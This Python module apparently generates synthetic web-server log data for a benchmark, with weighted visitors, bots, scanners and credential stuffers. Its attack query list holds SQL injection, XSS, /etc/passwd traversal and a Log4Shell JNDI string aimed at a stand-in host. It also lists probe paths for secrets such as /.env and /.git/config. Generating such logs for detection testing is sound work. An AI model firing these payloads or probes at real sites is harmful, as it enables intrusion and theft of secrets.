"""The site and the visitors of the benchmark's logs: clients by weight, and texts by number. Nothing here writes a line."""

from __future__ import annotations

from dataclasses import dataclass
from functools import lru_cache
from itertools import product
from urllib.parse import quote

import numpy as np
import pyarrow as pa

CLIENTS = 60_000
VISITOR, BOT, SCANNER, STUFFER = range(4)
SAFE = "/;:,()+"


@dataclass(frozen=True)
class World:
    """Clients with their constant properties, and texts by number."""

    ips: pa.Array
    client_weights: np.ndarray
    client_kind: np.ndarray
    client_agent: np.ndarray
    client_edge: np.ndarray
    cookies: pa.Array
    agents: pa.Array
    edges: pa.Array
    paths: dict[str, pa.Array]
    queries: pa.Array
    attacks: pa.Array


@lru_cache(maxsize=1)
def world(seed: int) -> World:
    rng = np.random.default_rng([seed, 3])
    agents = _agents()
    tools = [quote(a, safe=SAFE) for a in ("curl/8.9.1", "python-requests/2.32.3", "Nuclei - Open-source project")]
    names = "Googlebot/2.1 bingbot/2.0 AhrefsBot/7.0 UptimeMonitor/1.0 YandexBot/3.0".split()
    hosts = [name.split("/")[0].lower() for name in names]
    bots = [
        quote(f"Mozilla/5.0 (compatible; {name}; +https://{host}.example/bot.html)", safe=SAFE)
        for name, host in zip(names, hosts, strict=True)
    ]
    kind = np.zeros(CLIENTS, np.int8)
    special = rng.permutation(CLIENTS)[:420]
    kind[special[:120]], kind[special[120:300]], kind[special[300:]] = BOT, SCANNER, STUFFER
    agent = zipf(rng, len(agents), CLIENTS, 3)
    agent[kind == BOT] = len(agents) + rng.integers(0, len(bots), (kind == BOT).sum())
    agent[kind >= SCANNER] = len(agents) + len(bots) + rng.integers(0, len(tools), (kind >= SCANNER).sum())
    places = product("FRA IAD LHR NRT SFO CDG".split(), (2, 50, 56), ("C1", "P2"))
    edges = [f"{city}{n}-{block}" for city, n, block in places]
    sessions = [f"session={a:08x}" if a % 4 == 0 else "-" for a in rng.integers(0, 1 << 32, CLIENTS)]
    return World(
        ips=_addresses(rng),
        client_weights=weights(CLIENTS, 30),
        client_kind=kind,
        client_agent=agent,
        client_edge=rng.integers(0, len(edges), CLIENTS),
        cookies=pa.array(sessions),
        agents=pa.array([*agents, *bots, *tools]),
        edges=pa.array(edges),
        paths=_paths(rng),
        queries=_queries(rng),
        attacks=pa.array(_attack_queries()),
    )


def weights(count: int, flatness: float) -> np.ndarray:
    weights = 1 / (np.arange(count) + flatness)
    return np.cumsum(weights) / weights.sum()


def zipf(rng: np.random.Generator, count: int, rows: int, flatness: float) -> np.ndarray:
    return np.searchsorted(weights(count, flatness), rng.random(rows)).clip(max=count - 1)


def _addresses(rng: np.random.Generator) -> pa.Array:
    """Distinct addresses; an eighth IPv6; some share their network."""
    addresses: dict[str, None] = {}
    networks = rng.integers(0, 45_000, 2 * CLIENTS)
    hosts = rng.integers(1, 255, 2 * CLIENTS)
    for n, host in zip(networks.tolist(), hosts.tolist(), strict=True):
        if n % 8:
            addresses[f"{11 + n // 1000}.{n // 250 % 200 + 7}.{n % 250}.{host}"] = None
        else:
            addresses[f"2a0{n % 5 + 1}:{n // 64 + 256:x}:{n % 61 + 16:x}:{n % 17 + 1:x}::{host:x}"] = None
        if len(addresses) == CLIENTS:
            break
    return pa.array(addresses)


def _agents() -> list[str]:
    systems = """Windows NT 10.0; Win64; x64|Macintosh; Intel Mac OS X 10_15_7|X11; Linux x86_64|Linux; Android 14; Pixel 8|\
Linux; Android 13; SM-S911B|iPhone; CPU iPhone OS 18_1 like Mac OS X""".split("|")
    browsers = [f"Chrome/{n}.0.0.0" for n in range(140, 108, -1)] + [f"Firefox/{n}.0" for n in range(140, 120, -1)]
    return [quote(f"Mozilla/5.0 ({system}) {name}", safe=SAFE) for name, system in product(browsers, systems)]


def _paths(rng: np.random.Generator) -> dict[str, pa.Array]:
    words = "garden kitchen café lamp oak chair travel winter blue small größe set light table red cotton".split()
    pairs = [quote(f"{a}-{b}" if n % 3 else f"{a} {b}") for n, (a, b) in enumerate(product(words, words))]
    pages = ["/", "/index.html", "/cart", "/search", "/account", "/api/v1/basket", "/api/v1/recommendations"]
    pages += [f"/category/{pair}" for pair in pairs]
    pages += [f"/product/{n:05}/{pairs[n % len(pairs)]}" for n in rng.permutation(40_000)]
    built = product(("js", "css", "woff2"), ("app", "vendor", "theme"), (11, 23))
    assets = [f"/static/{name}.{n:06x}.{kind}" for kind, name, n in built]
    assets += [f"/images/{n:05}/{size}.webp" for n, size in product(rng.permutation(6_000), ("small", "large"))]
    probes = "/.env /.git/config /wp-login.php /wp-admin/setup-config.php /phpmyadmin/ /actuator/env".split()
    backups = product(("site", "db", "www", "dump"), ("sql", "tar", "zip", "bak"))
    probes += [f"/backup/{name}.{kind}" for name, kind in backups]
    signs = ["/login", "/api/v1/session", "/account/sign-in"]
    return {"page": pa.array(pages), "asset": pa.array(assets), "probe": pa.array(probes), "sign": pa.array(signs)}


def _queries(rng: np.random.Generator) -> pa.Array:
    words = "winter jacket lamp oak table coffee größe blue travel set".split()
    texts = [f"page={n}" for n in range(1, 60)]
    texts += [f"utm_source={s}&utm_medium=mail&utm_campaign=w{n}" for s, n in product(("news", "ads"), range(40, 50))]
    texts += [quote(f"q={a} {b}&sort=price", safe="=&") for a, b in product(words, words)]
    texts += [f"id={n}&v={n % 7}" for n in rng.integers(10_000, 99_999, 4_000)]
    return pa.array([*rng.permutation(texts), "-"])


def _attack_queries() -> list[str]:
    texts = """id=1' OR '1'='1
q=<script>alert(1)</script>
file=../../../../etc/passwd
id=1 UNION SELECT 1,2,3--
x=${jndi:ldap://a.example/x}""".splitlines()
    return [*(quote(text, safe="=/().:,$") for text in texts), "-"]
